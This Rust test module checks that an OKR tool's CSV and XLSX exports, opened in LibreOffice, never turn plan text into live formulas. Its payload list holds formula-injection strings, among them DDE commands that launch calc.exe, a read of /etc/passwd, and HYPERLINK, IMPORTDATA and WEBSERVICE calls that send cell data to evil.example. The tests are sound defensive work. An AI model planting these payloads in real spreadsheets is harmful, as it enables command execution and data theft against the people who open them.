//! Texts that would be formulas, in every file for a spreadsheet, as LibreOffice takes it.
#![expect(
    clippy::disallowed_methods,
    reason = "tables are files in a temporary folder"
)]

use std::fs;
use std::path::Path;

use libtest_mimic::Failed;
use okr_render::DIALECTS;

use crate::fods;
use crate::records;
use crate::sample::okr;
use crate::spreadsheet::{READ, READ_EAGERLY, first_difference, office};
use crate::tool::Tool;
use crate::{Check, no_faults, scratch};

const SHEET: &[Tool] = &[Tool::LibreOffice];

/// Returns the checks of all payloads; the spreadsheet takes them in one go.
pub(crate) fn checks() -> Vec<Check> {
    vec![
        Check::new("formulas::tables_for_platforms", SHEET, || {
            tables_for_platforms(READ)
        }),
        Check::new("formulas::tables_for_platforms_eagerly", SHEET, || {
            tables_for_platforms(READ_EAGERLY)
        }),
        Check::new(
            "formulas::tables_for_platforms_as_workbooks",
            SHEET,
            tables_as_workbooks,
        ),
        Check::new("formulas::workbook", SHEET, || workbook(&[])),
        Check::new("formulas::plain_workbook", SHEET, || workbook(&["--plain"])),
    ]
}

/// What people have put into cells to make a spreadsheet run it.
const PAYLOADS: &[&str] = &[
    "=1+1",
    "=1+2",
    "==1",
    "=-1",
    "=+1",
    "+=1",
    "+1+1",
    "-1+1",
    "--1",
    "@SUM(1+1)",
    "@SUM(A1)",
    "@A1",
    "=SUM(A1:A9)",
    "+SUM(A1:A9)",
    "-SUM(A1:A9)",
    "=A1&B1",
    "=A1%",
    "=1;=2",
    "=1,=2",
    "={1;2}",
    "=TRUE()",
    "=NOW()",
    "=RAND()",
    "=INFO(\"system\")",
    "=CELL(\"filename\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"click\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=IMPORTDATA(\"http://evil.example\")",
    "=IMPORTFEED(\"http://evil.example\")",
    "=IMPORTHTML(\"http://evil.example\",\"table\",1)",
    "=IMPORTRANGE(\"x\",\"A1\")",
    "=IMAGE(\"http://evil.example/x.png\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=FILTERXML(\"<a/>\",\"//a\")",
    "'=1+1",
    "''=1+1",
    "'+1+1",
    "'@SUM(1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{2060}=1+1",
    "\"=1+1\"",
    "=\"a\"\"b\"",
    "=sum(1)|x",
    "=MSEXCEL|'\\..\\cmd.exe /c calc'!A1",
    "=IF(1,2,3)",
    "=OFFSET(A1,1,1)",
    "=INDIRECT(\"A1\")",
];

/// Returns a plan that has every payload, behind `lead`, wherever there can be text.
fn plan(lead: &str) -> String {
    let goals = |payload: &&str| {
        // Between the code marks every sign stands for itself, and the table has the words alone.
        // With numbers of its own, no key result is computed with those that its words may have.
        let code = format!("``` {lead}{payload} ```");
        format!(
            "## Objective: {code}\n\n- Owner: {code}\n- [ ] {code}\n\n{code}\n\n### Key result: {code}\n\n\
             - Owner: {code}\n- Baseline: 1\n- Target: 2\n- Source: {code}\n- [ ] {code}\n\n{code}\n\n"
        )
    };
    PAYLOADS.iter().map(goals).collect()
}

/// No cell of a workbook is a formula where the same plan with harmless words has none, and every text
/// comes back, also from what the spreadsheet saved.
fn workbook(options: &[&str]) -> Result<(), Failed> {
    let folder = scratch()?;
    let folder = folder.path();
    for (name, lead) in [("payloads", ""), ("harmless", "x")] {
        fs::write(folder.join(format!("{name}.md")), plan(lead))?;
        let (from, to) = (format!("{name}.md"), format!("{name}.xlsx"));
        let mut args = vec!["render", &from, "-o", &to];
        args.extend(options);
        let output = okr(folder, &args)?;
        if !matches!(output.status.code(), Some(0 | 1)) {
            return Err(output.stderr.into());
        }
    }
    office(folder, "", "", "fods", "xlsx", "sheets")?;
    office(folder, "", "", "xlsx", "xlsx", "saved")?;
    let read = |name: &str| fs::read_to_string(folder.join(format!("sheets/{name}.fods")));
    let mut faults = Vec::new();
    let xml = read("payloads")?;
    for sign in [
        "xlink:href",
        "dde-",
        "table:cell-range-source",
        "file:///etc",
    ] {
        // Texts have these words as well, in which the quotes are others.
        if xml.contains(&format!(" {sign}=")) || xml.contains(&format!("<table:{sign}")) {
            faults.push(format!("the workbook has {sign}"));
        }
    }
    let (ours, harmless) = (fods::sheets(&xml), fods::sheets(&read("harmless")?));
    if ours.len() != harmless.len() {
        faults.push("the workbooks have other sheets".to_owned());
    }
    for ((sheet, ours), (_, harmless)) in ours.iter().zip(&harmless) {
        for (row, cells) in (1..).zip(ours) {
            for (column, cell) in cells.iter().enumerate() {
                let other = harmless.get(row - 1).and_then(|cells| cells.get(column));
                if cell.is_formula && !other.is_some_and(|other| other.is_formula) {
                    faults.push(format!("{sheet}, row {row}: {cell:?} is a formula"));
                }
            }
        }
    }
    let has_all = PAYLOADS.iter().all(|payload| {
        let mut cells = ours.iter().flat_map(|(_, rows)| rows).flatten();
        cells.any(|cell| cell.text == *payload)
    });
    if !has_all {
        faults.push("not every text is there to be tried".to_owned());
    }
    let first = imported(folder, "payloads.xlsx")?;
    faults.extend(missing(&first));
    let saved = imported(folder, "saved/payloads.xlsx")?;
    if first != saved {
        faults.push(format!("saved again: {}", first_difference(&first, &saved)));
    }
    no_faults(&faults)
}

/// Returns the plan that `okr import` makes of a file.
fn imported(folder: &Path, file: &str) -> Result<String, Failed> {
    let output = okr(folder, &["import", file, "-o", "imported.md", "--force"])?;
    match output.status.code() {
        Some(0 | 1) => Ok(fs::read_to_string(folder.join("imported.md"))?),
        _ => Err(format!("okr import {file}: {}", output.stderr).into()),
    }
}

/// Returns the payloads that are not the title of a key result in a plan.
fn missing(plan: &str) -> Vec<String> {
    let plan = okr_core::parse(plan).plan;
    let titles: Vec<_> = plan
        .key_results()
        .map(|(_, one)| one.title.plain())
        .collect();
    // Who reads a foreign table takes signs that nobody sees off the ends of words.
    let seen = |payload: &str| payload.trim_matches(['\u{200b}', '\u{feff}']).to_owned();
    let is_missing = |payload: &&&str| !titles.iter().any(|title| seen(title) == seen(payload));
    let missing = PAYLOADS.iter().filter(is_missing);
    missing
        .map(|payload| format!("{payload:?} does not come back"))
        .collect()
}

/// A table for a platform that the spreadsheet saved as a workbook has no formula either, and is read as
/// the table was.
fn tables_as_workbooks() -> Result<(), Failed> {
    let folder = scratch()?;
    let folder = folder.path();
    fs::write(folder.join("plan.md"), plan(""))?;
    let written = DIALECTS.iter().filter(|dialect| dialect.is_written());
    let names: Vec<_> = written.map(|dialect| dialect.name).collect();
    for name in &names {
        let target = format!("{name}.csv");
        okr(
            folder,
            &["render", "plan.md", "--dialect", name, "-o", &target],
        )?;
    }
    office(folder, "", READ, "xlsx", "csv", "books")?;
    office(&folder.join("books"), "", "", "fods", "xlsx", "sheets")?;
    let mut faults = Vec::new();
    for name in names {
        let sheet = fs::read_to_string(folder.join(format!("books/sheets/{name}.fods")))?;
        let live = fods::read(&sheet)
            .into_iter()
            .flatten()
            .filter(|cell| cell.is_formula);
        faults.extend(live.map(|cell| format!("{name}: {cell:?} is a formula")));
        let table = imported(folder, &format!("{name}.csv"))?;
        let book = imported(folder, &format!("books/{name}.xlsx"))?;
        faults.extend(
            missing(&table)
                .into_iter()
                .map(|fault| format!("{name}: {fault}")),
        );
        if table != book {
            faults.push(format!("{name}: {}", first_difference(&table, &book)));
        }
    }
    no_faults(&faults)
}

/// No text of a plan is a formula in the table of any platform, and no cell goes astray.
fn tables_for_platforms(read: &str) -> Result<(), Failed> {
    let folder = scratch()?;
    let folder = folder.path();
    fs::write(folder.join("plan.md"), plan(""))?;
    let written: Vec<_> = DIALECTS
        .iter()
        .filter(|dialect| dialect.is_written())
        .collect();
    for dialect in &written {
        let target = format!("{}.csv", dialect.name);
        let args = [
            "render",
            "plan.md",
            "--dialect",
            dialect.name,
            "-o",
            &target,
        ];
        let output = okr(folder, &args)?;
        if !matches!(output.status.code(), Some(0 | 1)) {
            return Err(format!("{}: {}", dialect.name, output.stderr).into());
        }
    }
    office(folder, "", read, "fods", "csv", "sheets")?;
    let mut faults = Vec::new();
    for dialect in written {
        let name = dialect.name;
        let ours = fs::read_to_string(folder.join(format!("{name}.csv")))?;
        let ours = records::read(&ours, ',');
        let theirs = fods::read(&fs::read_to_string(
            folder.join(format!("sheets/{name}.fods")),
        )?);
        let has_all = PAYLOADS.iter().all(|payload| {
            let is_there = |cell: &fods::Cell| cell.text.contains(payload);
            theirs.iter().flatten().any(is_there)
        });
        if !has_all {
            faults.push(format!("{name}: not every text is there to be tried"));
        }
        if ours.len() != theirs.len() {
            faults.push(format!(
                "{name}: {} rows became {}",
                ours.len(),
                theirs.len()
            ));
        }
        for (number, row) in (1..).zip(&theirs) {
            let live = row.iter().filter(|cell| cell.is_formula);
            faults.extend(live.map(|cell| format!("{name}: row {number}: {cell:?} is a formula")));
        }
    }
    no_faults(&faults)
}
